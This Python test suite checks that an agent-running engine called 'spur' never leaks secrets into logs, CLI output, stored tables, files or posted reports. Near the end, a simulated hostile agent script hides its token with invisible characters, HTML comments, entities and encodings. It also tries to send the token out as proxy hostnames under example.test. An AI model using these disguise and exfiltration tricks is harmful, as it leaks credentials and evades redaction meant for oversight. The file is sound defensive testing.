"""Secrets: a representative flow with recognizable secret values, then every place a value could
leak is searched for every secret, raw and encoded: the engine's log (at debug level), every CLI
output, every webhook and API answer, every stored table and column, the store's file and WAL
bytes, every file under the data directory, and what was posted to the thread APIs (SPEC 3, 8, 10).

Where a run asked for a secret (secrets: [NPM_TOKEN]) the sandbox holds it. The main engine's agent
proves that it got it by printing its SHA-256, never the value: so the value may appear nowhere at
all. A second engine runs an agent that prints its own secret: that one run's own output (its log
file, its stored result, and `spur show`/`spur logs` of that run) may hold it, as the agent wrote
it; nothing else may: not the report posted to the thread, not the engine log, not other runs.
"""
import base64
import hashlib
import html
import json
import os
import re
import shutil
import signal
import sqlite3
import sys
import time
import unicodedata
import urllib.parse

sys.path.insert(0, os.path.dirname(__file__))
from spurtest import (tempdir, require_sandboxes, Spur, Tap, SECRETS, SRCDIR, github_headers, github_comment, github_sig, slack_headers,
                      linear_sig, std_headers)
from fakeapis import Fake

t = Tap()
require_sandboxes(t)

HOOK = "/o/acme/hooks/"
TERMINAL = ("completed", "needs_review", "failed", "timed_out", "cancelled")
# One more secret, read from a file (file:PATH, trailing newline dropped).
FILE_SECRET = "lin-file-key-from-disk-4d4d"
ALL = dict(SECRETS, T_FILE_KEY=FILE_SECRET)


def forms(v):
    """The ways a value could be written down: raw, base64, hex, URL-quoted."""
    b = v.encode()
    return {b, base64.b64encode(b), base64.urlsafe_b64encode(b).rstrip(b"="), b.hex().encode(),
            urllib.parse.quote(v, safe="").encode()}


FORMS = dict((k, forms(v)) for k, v in ALL.items())


def leaks(data, allow=()):
    """Names of secrets whose value, in any form, is in data (bytes or str)."""
    if isinstance(data, str):
        data = data.encode("utf-8", "replace")
    return sorted(k for k, fs in FORMS.items() if k not in allow and any(f in data for f in fs))


def where(data, name):
    """A little context around the first hit of secret name, for the report."""
    if isinstance(data, str):
        data = data.encode("utf-8", "replace")
    for f in FORMS[name]:
        i = data.find(f)
        if i >= 0:
            return data[max(0, i - 200):i + len(f) + 100].decode("utf-8", "replace")
    return ""


t.eq(leaks(" ".join(ALL.values())), sorted(ALL), "the search finds every secret (the test can fail)")
t.eq(leaks(base64.b64encode(SECRETS["T_GH_TOKEN"].encode())), ["T_GH_TOKEN"], "and finds them base64-encoded")

tmp = tempdir("spur-secrets-")
keyfile = os.path.join(tmp, "linear.key")
with open(keyfile, "w") as f:
    f.write(FILE_SECRET + "\n")
# Its repositories too: every run of a GitHub event checks the event's repository out first.
fake = Fake(SECRETS["T_GH_TOKEN"], SECRETS["T_SLACK_TOKEN"], FILE_SECRET, tmp).any_repository()

ORGS = """\
orgs:
  acme:
    github:
      webhook_secret: env:T_GH_SECRET
      token: env:T_GH_TOKEN
      api_url: %(u)s
      git_url: %(u)s/git
    slack:
      signing_secret: env:T_SLACK_SECRET
      bot_token: env:T_SLACK_TOKEN
      api_url: %(u)s/slack/api
    linear:
      webhook_secret: env:T_LINEAR_SECRET
      api_key: file:%(k)s
      api_url: %(u)s/linear/graphql
    agents:
      claude: { api_key: env:T_ANTHROPIC_KEY }
    secrets:
      HOOK_SECRET: env:T_HOOK_SECRET
      STD_SECRET: env:T_STD_SECRET
      NPM_TOKEN: env:T_NPM_TOKEN
""" % {"u": fake.url, "k": keyfile}


def cmd_auto(name, trigger, script, extra=""):
    return "name: %s\non:\n%s\nagent: command\ncommand: %s\nprompt: |\n  Do the %s thing.\n%s" % (
        name, trigger, json.dumps(["sh", "-c", script]), name, extra)


GH = "  github:\n    events: [issue_comment.created]\n    text: '%s'"
# The agent prints its whole environment: the sandbox must hold no secret it did not ask for.
ENV_DUMP = "cat >/dev/null; echo '--- env'; env | sort; echo '--- files'; ls -la / /workspace 2>&1; echo done"
AUTOS = {
    "fix.yaml": cmd_auto("fix", GH % "^/fix", ENV_DUMP, "proof: report\n"),
    "npm.yaml": cmd_auto("npm", GH % "^/npm", "cat >/dev/null; printf '%s' \"$NPM_TOKEN\" | sha256sum | "
                         "sed 's/ .*//; s/^/npm-sha256=/'", "proof: report\nsecrets: [NPM_TOKEN]\n"),
    "fail.yaml": cmd_auto("fail", GH % "^/fail", "cat >/dev/null; echo going down >&2; exit 4"),
    "slack.yaml": cmd_auto("slk", "  slack:\n    events: [app_mention]", ENV_DUMP, "proof: report\n"),
    "linear.yaml": cmd_auto("lin", "  linear:\n    events: [Issue.update]\n    to_state: In Progress", ENV_DUMP,
                            "proof: report\n"),
    "deploy.yaml": cmd_auto("deploy", "  webhook:\n    name: deploy-failed\n    auth: {standard_webhooks: "
                            "{secret: STD_SECRET}}\n    text: message\n    thread: service", ENV_DUMP, "proof: report\n"),
    "alerts.yaml": cmd_auto("alerts", "  webhook:\n    name: alerts\n    auth: {hmac: {secret: HOOK_SECRET, "
                            "header: X-Signature, prefix: \"sha256=\", encoding: hex, id_header: X-Alert-Id}}",
                            ENV_DUMP, "proof: report\n"),
    "nightly.yaml": cmd_auto("nightly", "  schedule:\n    cron: '0 3 * * *'\n    timezone: Europe/Paris",
                             "cat >/dev/null; echo nightly", "proof: none\n"),
}

outputs = []              # (what, text) of everything spur said


def say(what, text):
    outputs.append((what, text if isinstance(text, (bytes, str)) else repr(text)))
    return text


def cli(s, *args):
    rc, out, err = s.c(*args)
    say("spur %s" % " ".join(args), out + err)
    return rc, out, err


def post(s, path, body, headers):
    st, h, data = s.request("POST", path, body, headers)
    say("POST %s -> %d" % (path, st), json.dumps(h) + data.decode("utf-8", "replace"))
    try:
        return st, json.loads(data)
    except ValueError:
        return st, data


def wait_ended(s, runs, timeout=60):
    deadline = time.time() + timeout
    while time.time() < deadline:
        q = s.query("SELECT id FROM runs WHERE state NOT IN (%s)" % ",".join("'%s'" % x for x in TERMINAL))
        if not [r for r in q if r["id"] in runs]:
            return True
        time.sleep(0.1)
    return False


def dump_store(s):
    """Every table, every column, as text."""
    out = []
    con = sqlite3.connect("file:%s?mode=ro" % os.path.join(s.data_dir, "spur.db"), uri=True, timeout=10)
    for (name,) in con.execute("SELECT name FROM sqlite_master WHERE type = 'table'"):
        for row in con.execute("SELECT * FROM \"%s\"" % name):
            out.append(("table %s" % name, " | ".join("" if v is None else str(v) for v in row)))
    con.close()
    return out


def files_under(root):
    for d, _, files in os.walk(root):
        for f in files:
            p = os.path.join(d, f)
            try:
                with open(p, "rb") as fh:
                    yield p, fh.read()
            except OSError:
                pass


def check_everything(s, label, allow_in=None):
    """allow_in(what, name) says where a leak is allowed (a run's own output); returns the leaks."""
    allow_in = allow_in or (lambda what, name: False)
    found = []

    def look(what, data):
        for name in leaks(data):
            if not allow_in(what, name):
                found.append((what, name, where(data, name)))

    look("engine log", s.logs())
    for what, text in outputs:
        look(what, text)
    for what, text in dump_store(s):
        look(what, text)
    for p, data in files_under(s.data_dir):
        look("file %s" % os.path.relpath(p, s.dir), data)
    for r in fake.requests:
        hdrs = dict((k, v) for k, v in r["headers"].items() if k != "authorization")
        look("posted %s %s" % (r["method"], r["path"]), r["path"] + json.dumps(hdrs) + r["body"])
    return found


def report_leaks(found, name):
    t.eq(["%s: %s" % (w, n) for w, n, _ in found][:20], [], name)
    for w, n, ctx in found[:8]:
        print("#   %s holds %s near: %r" % (w, n, ctx[:300]))


with Spur("sandbox:\n  backend: bwrap\n  timeout: 60s\n", orgs=ORGS, automations=AUTOS, verbose=True) as s:
    rc, out, err = cli(s, "check")
    t.ok(rc == 0, "spur check passes on the config", out + err)
    s.start()
    runs = []

    # GitHub: matching comments, a non-matching one, a duplicate, a bad signature, a form body.
    for text, n in (("/fix it", 1), ("/npm publish", 2), ("/fail now", 3), ("thanks", 1)):
        b = json.dumps(github_comment(text, number=n, comment_id=100 + n + len(runs))).encode()
        h = github_headers(b, delivery="gh-%s" % text.split()[0].strip("/"))
        st, a = post(s, HOOK + "github", b, h)
        runs += a.get("runs", []) if isinstance(a, dict) else []
        if text == "/fix it":
            post(s, HOOK + "github", b, h)
            bad = dict(h, **{"X-Hub-Signature-256": github_sig("not-the-secret", b), "X-GitHub-Delivery": "bad-1"})
            st, a = post(s, HOOK + "github", b, bad)
            t.eq(st, 401, "a bad GitHub signature is 401")
            good_sig = h["X-Hub-Signature-256"]
    form = urllib.parse.urlencode({"payload": json.dumps(github_comment("/fix form", number=4, comment_id=555))}).encode()
    fh = dict(github_headers(form, delivery="gh-form"), **{"Content-Type": "application/x-www-form-urlencoded"})
    st, a = post(s, HOOK + "github", form, fh)
    runs += a.get("runs", []) if isinstance(a, dict) else []
    st, a = post(s, HOOK + "github", b"{}", github_headers(b"{}", event="ping", delivery="gh-ping"))

    # Slack: challenge, a mention, a bad signature.
    chal = json.dumps({"type": "url_verification", "challenge": "c-1", "token": "x"}).encode()
    post(s, HOOK + "slack", chal, dict(slack_headers(SECRETS["T_SLACK_SECRET"], chal), **{"Content-Type": "application/json"}))
    m = json.dumps({"type": "event_callback", "team_id": "T1", "event_id": "EvS1",
                    "event": {"type": "app_mention", "user": "U1", "text": "<@UBOT> look", "ts": "1700000000.000100",
                              "channel": "C1", "event_ts": "1700000000.000100"}}).encode()
    sh = dict(slack_headers(SECRETS["T_SLACK_SECRET"], m), **{"Content-Type": "application/json"})
    st, a = post(s, HOOK + "slack", m, sh)
    runs += a.get("runs", []) if isinstance(a, dict) else []
    st, a = post(s, HOOK + "slack", m, dict(sh, **{"X-Slack-Signature": "v0=" + "0" * 64}))
    t.eq(st, 401, "a bad Slack signature is 401")

    # Linear: an issue moved to In Progress, and a bad signature.
    lin = json.dumps({"action": "update", "type": "Issue", "webhookTimestamp": int(time.time() * 1000),
                      "data": {"id": "iss-1", "identifier": "ENG-1", "title": "Do it", "description": "please",
                               "state": {"id": "s2", "name": "In Progress", "type": "started"}, "stateId": "s2",
                               "team": {"key": "ENG"}, "url": "https://linear.app/acme/issue/ENG-1"},
                      "updatedFrom": {"stateId": "s1"}, "actor": {"id": "u1", "name": "Bob", "type": "user"}}).encode()
    lh = {"Content-Type": "application/json", "Linear-Delivery": "ld-1",
          "Linear-Signature": linear_sig(SECRETS["T_LINEAR_SECRET"], lin)}
    st, a = post(s, HOOK + "linear", lin, lh)
    runs += a.get("runs", []) if isinstance(a, dict) else []
    st, a = post(s, HOOK + "linear", lin, dict(lh, **{"Linear-Signature": "ab" * 32, "Linear-Delivery": "ld-2"}))
    t.eq(st, 401, "a bad Linear signature is 401")

    # Generic: Standard Webhooks and HMAC, good and bad.
    db = json.dumps({"service": "billing", "message": "deploy 42 failed"}).encode()
    sw = dict(std_headers(SECRETS["T_STD_SECRET"], "msg_1", db), **{"Content-Type": "application/json"})
    st, a = post(s, HOOK + "deploy-failed", db, sw)
    runs += a.get("runs", []) if isinstance(a, dict) else []
    st, a = post(s, HOOK + "deploy-failed", db, dict(sw, **{"webhook-signature": "v1,bm90IGl0", "webhook-id": "m2"}))
    t.eq(st, 401, "a bad Standard Webhooks signature is 401")
    import hmac as _hmac
    ab = b'{"alert":"cpu"}'
    ah = {"Content-Type": "application/json", "X-Alert-Id": "a-1",
          "X-Signature": "sha256=" + _hmac.new(SECRETS["T_HOOK_SECRET"].encode(), ab, hashlib.sha256).hexdigest()}
    st, a = post(s, HOOK + "alerts", ab, ah)
    runs += a.get("runs", []) if isinstance(a, dict) else []
    st, a = post(s, HOOK + "alerts", ab, dict(ah, **{"X-Signature": "sha256=" + "1" * 64, "X-Alert-Id": "a-2"}))
    t.eq(st, 401, "a bad HMAC signature is 401")
    # Unknown org and source, bad JSON, metrics.
    post(s, "/o/nobody/hooks/github", b"{}", github_headers(b"{}"))
    post(s, HOOK + "github", b"{not json", github_headers(b"{not json", delivery="gh-badjson"))
    st, h, data = s.request("GET", "/metrics")
    say("GET /metrics", data)

    t.ok(len(runs) == 8, "the flow started its 8 runs (fix, npm, fail, form, slack, linear, deploy, alerts)", runs)
    t.ok(wait_ended(s, runs), "every run ended")

    # The org API: a key made, used, mistyped and revoked. Its one showing is keys create's
    # stdout (not recorded as output); from then on it must be nowhere, in any form.
    rc, kout, kerr = s.c("keys", "create", "--org", "acme", "--name", "grep", "--json")
    api_key = json.loads(kout)["key"]
    FORMS["API_KEY"] = forms(api_key)
    say("spur keys create (stderr)", kerr)
    auth = {"Authorization": "Bearer " + api_key, "Content-Type": "application/json"}
    st, a = post(s, "/o/acme/sessions", json.dumps({"input": "dump the env", "automation": "fix"}).encode(), auth)
    t.eq(st, 201, "an API session starts a run with the key")
    api_runs = [a["run"]["id"]] if st == 201 else []
    for path in ("/o/acme/sessions", "/o/acme/runs", "/o/acme/automations", "/o/acme/runs/%s" % api_runs[0]
                 if api_runs else "/o/acme/runs"):
        st, h, data = s.request("GET", path, None, auth)
        say("GET %s -> %d" % (path, st), json.dumps(h) + data.decode("utf-8", "replace"))
    mistyped = dict(auth, Authorization="Bearer " + api_key[:-2] + "zz")
    st, h, data = s.request("GET", "/o/acme/runs", None, mistyped)
    say("GET runs with a mistyped key -> %d" % st, data)
    t.eq(st, 401, "a mistyped key is 401")
    t.ok(wait_ended(s, api_runs), "the API's run ended")
    cli(s, "keys", "list")
    cli(s, "keys", "list", "--json")
    cli(s, "keys", "revoke", json.loads(kout)["id"])
    st, h, data = s.request("GET", "/o/acme/runs", None, auth)
    say("GET runs with a revoked key -> %d" % st, data)
    runs += api_runs

    # The secret reached the run that asked for it (so its absence elsewhere means something).
    npm_run = [r for r in runs if s.query("SELECT automation FROM runs WHERE id = ?", r)[0]["automation"] == "npm"]
    rc, out, err = cli(s, "logs", npm_run[0]) if npm_run else (1, "", "")
    t.contains(out, "npm-sha256=" + hashlib.sha256(SECRETS["T_NPM_TOKEN"].encode()).hexdigest(),
               "the run that asked for NPM_TOKEN got it in its environment")

    # Every CLI command, every run.
    for args in (("runs",), ("runs", "--json"), ("runs", "--state", "failed"), ("schedules",),
                 ("schedules", "--json", "--next", "2"), ("version",), ("help",), ("check",)):
        cli(s, *args)
    for r in runs:
        cli(s, "show", r)
        cli(s, "show", "--json", r)
        cli(s, "logs", r)
    rc, out, err = cli(s, "retry", runs[0])
    if rc == 0:
        wait_ended(s, [out.strip()])
        cli(s, "show", "--json", out.strip())
    cli(s, "cancel", runs[0])
    cli(s, "show", "run_doesnotexist")
    payloads = os.path.join(tmp, "payloads")
    os.makedirs(payloads)
    for name, src, data, extra in (("gh.json", "github", json.dumps(github_comment("/npm go")), ["--event", "issue_comment"]),
                                   ("slack.json", "slack", m.decode(), []),
                                   ("linear.json", "linear", lin.decode(), []),
                                   ("deploy.json", "webhook", db.decode(), ["--event", "deploy-failed"])):
        p = os.path.join(payloads, name)
        with open(p, "w") as f:
            f.write(data)
        cli(s, "fire", "--org", "acme", "--source", src, *extra, p)
        cli(s, "fire", "--org", "acme", "--source", src, "--why", *extra, p)
        cli(s, "fire", "--org", "acme", "--source", src, "--prompt", *extra, p)
        cli(s, "fire", "--org", "acme", "--source", src, "--json", *extra, p)

    # A failing reload, and a config holding a literal secret: errors must not echo values.
    good_conf = open(s.config).read()
    with open(s.config, "w") as f:
        f.write(good_conf.replace("webhook_secret: env:T_GH_SECRET", "webhook_secret: %s" % SECRETS["T_GH_SECRET"])
                .replace("bot_token: env:T_SLACK_TOKEN", "bot_token: \"%s\"" % SECRETS["T_SLACK_TOKEN"]))
    s.proc.send_signal(signal.SIGHUP)
    time.sleep(1)
    rc, out, err = cli(s, "check")
    t.ok(rc == 1, "spur check refuses literal secrets in the config", out + err)
    with open(s.config, "w") as f:
        f.write(good_conf + "bogus: 1\n")
    s.proc.send_signal(signal.SIGHUP)
    time.sleep(1)
    with open(s.config, "w") as f:
        f.write(good_conf)
    t.contains(s.logs(), "event=reload.refused", "the failing reloads were refused")
    bad_auto = os.path.join(s.auto_dir, "broken.yaml")
    with open(bad_auto, "w") as f:
        f.write("name: broken\non:\n  github:\n    events: [issue_comment.created]\n    text: '(['\nagent: command\n"
                "command: [/bin/true]\nprompt: x\nsecrets: [NPM_TOKEN, NOPE]\n")
    cli(s, "check")
    s.proc.send_signal(signal.SIGHUP)
    time.sleep(1)
    os.unlink(bad_auto)
    s.proc.send_signal(signal.SIGHUP)
    time.sleep(1)

    # Let the outbox post the reports, then stop, so the WAL and logs are complete.
    s.wait_reports_done(15)
    posted = [r for r in fake.requests if r["method"] == "POST"]
    print("# %d requests reached the fake thread APIs; %d reports stored, %d pending"
          % (len(posted), len(s.query("SELECT id FROM reports")),
             len(s.query("SELECT id FROM reports WHERE state = 'pending'"))))
    raw = b""
    for suffix in ("", "-wal", "-shm"):
        try:
            with open(os.path.join(s.data_dir, "spur.db" + suffix), "rb") as f:
                raw += f.read()
        except OSError:
            pass
    t.ok(len(raw) > 0 and not leaks(raw), "the live store's bytes (spur.db, -wal, -shm: %d bytes) hold no secret value"
         % len(raw), ["%s: %r" % (n, where(raw, n)[:300]) for n in leaks(raw)])
    log_before_stop = s.logs()
    t.ok(good_sig not in log_before_stop and good_sig[7:] not in log_before_stop,
         "the expected signature of a request is never logged")
    rc = s.stop()
    t.ok(rc == 0, "the engine stops cleanly (exit %r)" % rc, "\n".join(s.logs().splitlines()[-30:]))
    t.ok(os.path.exists(os.path.join(s.data_dir, "spur.db")), "the store is there to search")

    found = check_everything(s, "main")
    report_leaks(found, "no secret value (raw, base64, hex or URL-quoted) in the log, CLI output, answers, "
                        "store tables, store files, data directory or posted reports")
    # The same again for the store's raw bytes with the WAL not yet checkpointed: the engine's
    # stop may have checkpointed; files_under above already read spur.db and spur.db-wal if present.
    t.ok(any(w.startswith("spur fire") for w, _ in outputs) and any(w.startswith("spur show") for w, _ in outputs),
         "the search covered %d outputs, %d store rows and %d files" % (
             len(outputs), len(dump_store(s)), len(list(files_under(s.data_dir)))))

# A run whose agent prints its own secret: only its own output may hold it.
outputs = []
fake.requests.clear()
ECHO = cmd_auto("echo", GH % "^/echo", "cat >/dev/null; echo \"my token is $NPM_TOKEN\"",
                "proof: report\nsecrets: [NPM_TOKEN]\n")
OTHER = cmd_auto("other", GH % "^/other", ENV_DUMP, "proof: report\n")
with Spur("sandbox:\n  backend: bwrap\n  timeout: 60s\n", orgs=ORGS,
          automations={"echo.yaml": ECHO, "other.yaml": OTHER}, verbose=True) as s:
    s.start()
    runs = []
    for text, n in (("/echo please", 11), ("/other one", 12)):
        b = json.dumps(github_comment(text, number=n, comment_id=n)).encode()
        st, a = post(s, HOOK + "github", b, github_headers(b))
        runs += a.get("runs", [])
    t.ok(len(runs) == 2 and wait_ended(s, runs), "the echo and other runs ended")
    echo = runs[0] if runs else "none"
    rc, out, err = cli(s, "logs", echo)
    t.contains(out, SECRETS["T_NPM_TOKEN"], "the echo run printed its own secret (what the agent chose to do)")
    for r in runs:
        cli(s, "show", "--json", r)
        cli(s, "logs", r)
    cli(s, "runs", "--json")
    cli(s, "runs")
    s.wait_reports_done(15)
    t.eq(s.stop(), 0, "the engine stops cleanly")
    rep = s.query("SELECT body FROM reports WHERE run = ? AND kind = 'run_end'", echo)
    t.ok(rep and "[secret]" in (rep[0]["body"] or "") and SECRETS["T_NPM_TOKEN"] not in rep[0]["body"],
         "its report says [secret] where the value was", rep)

    def own_output(what, name):
        """The echo run's own output: its log file, its stored result, `spur show`/`spur logs` of it,
        and `spur runs --json` (a list of `spur show` objects, results included)."""
        if name != "T_NPM_TOKEN":
            return False
        return (what in ("spur logs %s" % echo, "spur show --json %s" % echo, "spur runs --json") or
                (what.startswith("file ") and echo in what and what.endswith(".log")) or
                what in ("table runs", "file var/spur.db", "file var/spur.db-wal"))
    found = check_everything(s, "echo", own_output)
    report_leaks(found, "a run's own secret appears only in its own output, nowhere else "
                        "(not the engine log, runs list, reports, other runs)")
    rows = [r for r in dump_store(s) if r[0] == "table runs" and SECRETS["T_NPM_TOKEN"] in r[1]]
    t.ok(len(rows) <= 1 and all(echo in r[1] for r in rows), "in the store, only the echo run's own row holds it",
         [r[1][:200] for r in rows])


def rendered(text):
    """What a reader of text sees: HTML comments and invisible characters gone, entities decoded."""
    prev = None
    while prev != text:
        prev = text
        text = re.sub(r"<!--.*?(-->|$)", "", text, flags=re.S)
        text = "".join(c for c in text if c in "\n\t" or unicodedata.category(c) not in ("Cf", "Cc"))
        text = html.unescape(text)
    return text


# A hostile agent writes its own secret disguised, in its final message and its error, and asks
# the proxy for hosts named after it: the report, the engine log and the connections table must
# not hold it in any form a reader or a decoder would see.
DISGUISE = r"""
import base64, json, os, socket, sys
v = os.environ["NPM_TOKEN"]
b = v.encode()
forms = [v[:4] + "\u200b" + v[4:], v[:4] + "\u202e" + v[4:], v[:4] + "\U000e0041" + v[4:],
         v[:3] + "\u00ad" + v[3:9] + "\u2060" + v[9:], v[:4] + "<!-- x -->" + v[4:], v[:4] + "<!---->" + v[4:],
         "".join("&#x%x;" % ord(c) for c in v), "".join("&#%d;" % ord(c) for c in v),
         v.replace("_", "&lowbar;"), v[:4] + "&#8203;" + v[4:], base64.b64encode(b).decode(),
         base64.urlsafe_b64encode(b).decode().rstrip("="), b.hex(), b.hex().upper(),
         "".join("%%%02X" % c for c in b)]
port = int(os.environ["HTTPS_PROXY"].rsplit(":", 1)[1])
for host in (v, b.hex()):
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    s.sendall(("CONNECT %s.example.test:443 HTTP/1.1\r\nHost: %s.example.test:443\r\n\r\n" % (host, host)).encode())
    print("proxy said", s.recv(100)[:12], file=sys.stderr)
    s.close()
print(json.dumps({"type": "result", "subtype": "error_during_execution", "is_error": True,
                  "result": "final message:\n" + "\n".join(forms), "errors": ["agent error: " + " | ".join(forms)]}))
"""
DISGUISED = ("name: disguise\non:\n  github:\n    events: [issue_comment.created]\n    text: '^/disguise'\n"
             "agent: claude\nprompt: |\n  Say it.\nproof: report\nsecrets: [NPM_TOKEN]\n"
             "network:\n  allow: [\"allowed.example.test:443\"]\n")
outputs = []
fake.requests.clear()
with Spur("sandbox:\n  backend: bwrap\n  timeout: 60s\nagents:\n  claude:\n    command: %s\n"
          % (json.dumps(["python3", "-c", DISGUISE])), orgs=ORGS, automations={"disguise.yaml": DISGUISED},
          verbose=True) as s:
    s.start()
    b = json.dumps(github_comment("/disguise now", number=21, comment_id=21)).encode()
    st, a = post(s, HOOK + "github", b, github_headers(b))
    runs = a.get("runs", []) if isinstance(a, dict) else []
    t.ok(len(runs) == 1 and wait_ended(s, runs), "the disguising run ended")
    run = runs[0] if runs else "none"
    rc, out, err = cli(s, "logs", "--raw", run)
    t.contains(out, "final message", "the agent wrote its disguised secret (its own log holds it)")
    s.wait_reports_done(15)
    t.eq(s.stop(), 0, "the engine stops cleanly")
    rep = s.query("SELECT body FROM reports WHERE run = ? AND kind = 'run_end'", run)
    body = rep[0]["body"] if rep else ""
    t.ok(body.count("[secret]") >= 30, "its report says [secret] for each of the 15 forms, in the result "
         "and in the reason (%d)" % body.count("[secret]"), body[:3000])
    # Posted, or edited into the run's status message (reports.progress).
    posted = "".join(r["body"] for r in fake.requests if r["method"] in ("POST", "PATCH"))
    t.ok("[secret]" in posted, "the report was posted")
    for what, text in (("the stored report", body), ("the posted report", posted)):
        t.eq(leaks(rendered(text)), [], "%s holds the secret in no form, even as a reader sees it" % what)
    conns = s.query("SELECT host FROM connections WHERE run = ?", run)
    t.ok(len(conns) >= 2 and not leaks(" ".join(c["host"] for c in conns)),
         "the proxy's connections are stored with the host scrubbed", conns)
    log = s.logs()
    t.contains(log, "[secret].example.test", "the proxy logged the asked host, scrubbed")
    t.eq(leaks(rendered(log)), [], "the engine log holds the secret in no form (reason= and proxy hosts)")

fake.close()
shutil.rmtree(tmp, ignore_errors=True)
t.done()
